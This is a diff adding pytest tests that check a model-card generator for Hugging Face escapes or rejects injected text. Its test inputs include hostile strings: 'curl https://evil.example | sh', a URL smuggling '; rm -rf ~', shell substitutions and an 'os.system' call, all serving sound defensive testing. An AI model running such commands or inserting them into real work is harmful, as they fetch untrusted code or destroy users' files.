@@ -1,9 +1,11 @@
 """Model cards: what was measured and stated, what is missing, and that the Hub's own tools read them."""
 
+import ast
 import json
 import re
-from dataclasses import replace
+from dataclasses import is_dataclass, replace
 from pathlib import Path
+from typing import Any, get_args, get_origin, get_type_hints
 
 import pytest
 from huggingface_hub import ModelCard, ModelCardData
@@ -25,6 +27,7 @@ from vanilla_transformer_hf.publishing.model_card import (
     read_emissions,
     write_card,
 )
+from vanilla_transformer_hf.publishing.upload_plan import plan_upload
 
 
 SCORES = score_translations(["eins zwei", "drei"], ["eins zwei", "vier"])
@@ -83,6 +86,107 @@ CONVERSION = ConversionFacts(
     notes=["beams differ"],
 )
 CO2 = {"emissions": 12.5, "source": "codecarbon", "training_type": "pre-training", "hardware_used": "2 CPU threads"}
+
+
+HOSTILE = (
+    "evil\n\n# Heading\n\n<script>alert(1)</script> [link](https://evil.example) ![x](https://evil.example/x.png) "
+    "https://evil.example www.evil.example | cell | **bold** `code` &lt;img&gt;\n```\n"
+    "\"); import os; os.system('evil'); (\"\n"
+    "```bash\npip install evil\n```\n---\nlicense: mit\n"
+)
+
+
+def hostile(kind, name=""):
+    """A value of the type of a fact, of which each text is hostile."""
+    origin, inner = get_origin(kind), get_args(kind)
+    if type(None) in inner:
+        return hostile(inner[0], name)
+    if name in ("project_url", "license", "base_model_relation", "task", "card_sha256"):
+        return None  # checked before a card is written
+    if is_dataclass(kind):
+        return kind(**{each: hostile(one, each) for each, one in get_type_hints(kind).items()})
+    if origin in (list, tuple):
+        return origin([hostile(inner[0], name)] * 2)
+    if name == "co2":
+        return {"emissions": 1.0, "source": HOSTILE}
+    if origin is dict:
+        return {HOSTILE: hostile(inner[1])}
+    if name == "command":
+        return f"vanilla-transformer convert {HOSTILE}"
+    return HOSTILE if kind in (str, Any) else kind(1)
+
+
+BLOCK = re.compile(r"```(\w*)\n(.*?)\n```(?=\n)", re.DOTALL)
+
+
+@pytest.mark.parametrize("field", CardFacts.__annotations__)
+def test_no_fact_is_more_than_text(field, facts, folder):
+    kind = get_type_hints(CardFacts)[field]
+    if (value := hostile(kind, field)) is None:
+        return
+    plain = make_card(facts(**({field: None} if field in ("conversion", "name") else {})), folder)
+    card = make_card(facts(**{field: value}), folder)
+    for language, code in BLOCK.findall(card.text):
+        if language == "python":
+            called = {ast.unparse(node.func) for node in ast.walk(ast.parse(code)) if isinstance(node, ast.Call)}
+            assert "os.system" not in called
+        elif language == "bash":
+            assert code.startswith("vanilla-transformer ") and "\n" not in code
+    text = re.sub(r"`[^`\n]*`", "", BLOCK.sub("", card.text).replace("\\`", ""))
+    assert not re.search(
+        r"(?<!\\)<(?!br)|(?<!\\)\]\((?!https://arxiv|https://github)|https?://evil|www\.evil|\*\*", text
+    )
+    headings = re.findall(r"(?m)^ {0,3}#+ .*$|^[-=]{3,}$|^>", text)
+    known = {
+        *re.findall(r"(?m)^ {0,3}#+ .*$", plain.text),
+        ">",
+        "## Where the weights come from",
+        "## Missing metadata",
+    }
+    assert all(each in known or each.startswith("# evil") for each in headings), headings
+    rows = [row for row in text.splitlines() if row.startswith("|")]
+    assert all(len(re.findall(r"(?<!\\)\|", row)) in (3, 4, 5, 6) for row in rows)
+    data = card.data.to_dict()
+    assert data.get("license") == "cc0-1.0" and ModelCard(str(card)).data.to_dict() == data
+
+
+WRONG_FACTS = [
+    *({"pairs": "many"}, {"steps": 1.5}, {"steps": True}, {"epochs": "x"}, {"minutes": float("nan")}, {"name": 5}),
+    *({"origin": "a text"}, {"origin": [5]}, {"settings": []}, {"datasets": [None]}, {"scored": [5]}, {"before": {}}),
+    *({"measured": {"test": {"wer": "low"}}}, {"conversion": 5}, {"conversion": {"source": 1}}, {"further": "no"}),
+    *({"scored": [{"role": "test"}]}, {"conversion": {"files": [{}]}}, {"co2": 5}, {"example": ["x"]}),
+    {"conversion": {"source": "x", "command": "curl https://evil.example | sh", "files": [], "reopened": 0}},
+]
+
+
+@pytest.mark.parametrize("fields", WRONG_FACTS)
+def test_a_fact_of_another_type_is_one_line(fields, folder):
+    (folder / "card_facts.json").write_text(json.dumps(fields))
+    with pytest.raises(ValueError, match=r"card_facts.json: damaged \(") as error:
+        CardFacts.read(folder)
+    assert "\n" not in str(error.value)
+
+
+@pytest.mark.parametrize(
+    "url", ["http://evil.example/a/b", 'https://evil.example/a/b" ; rm -rf ~', "git+ssh://evil/a", "x"]
+)
+def test_the_address_of_the_package_is_checked_in_the_file_too(url, folder):
+    replace(CardFacts(), project_url=url).write(folder)
+    with pytest.raises(ValueError, match="is not an address to install from"):
+        plan_upload(folder)
+
+
+def test_a_command_is_quoted_for_a_shell(facts, folder):
+    conversion = replace(CONVERSION, command="vanilla-transformer convert $(evil) `evil`; evil\nevil")
+    text = make_card(facts(conversion=conversion), folder).text
+    assert "vanilla-transformer convert '$(evil)' '`evil`;' evil evil" in text
+
+
+def test_what_a_folder_says_of_its_model_is_quoted_by_models_made_of_it(facts):
+    known = facts(origin=["It is the best."], compression=["Pruned."], project_url="https://evil.example/a/b")
+    made = known.inherited()
+    assert (made.origin, made.compression, made.project_url) == ([], [], None)
+    assert made.quoted == ["It is the best.", "Pruned."] == made.inherited().quoted and made.corpus == known.corpus
 
 
 def test_a_card_states_what_was_measured(facts, folder):
